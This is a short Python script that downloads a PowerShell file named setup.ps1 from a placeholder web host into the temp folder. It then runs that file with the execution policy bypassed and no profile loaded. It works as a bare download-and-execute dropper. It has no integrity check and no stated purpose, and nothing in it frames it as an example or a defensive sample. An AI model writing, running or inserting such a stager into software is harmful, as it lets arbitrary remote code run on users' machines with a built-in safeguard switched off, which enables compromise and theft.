import subprocess, tempfile, os, requests

def main():
    dest = os.path.join(tempfile.gettempdir(), "setup.ps1")
    with open(dest, "wb") as f:
        f.write(requests.get("https://cdn.winsetup.example.com/setup.ps1", timeout=10).content)
    subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-NoProfile", dest])
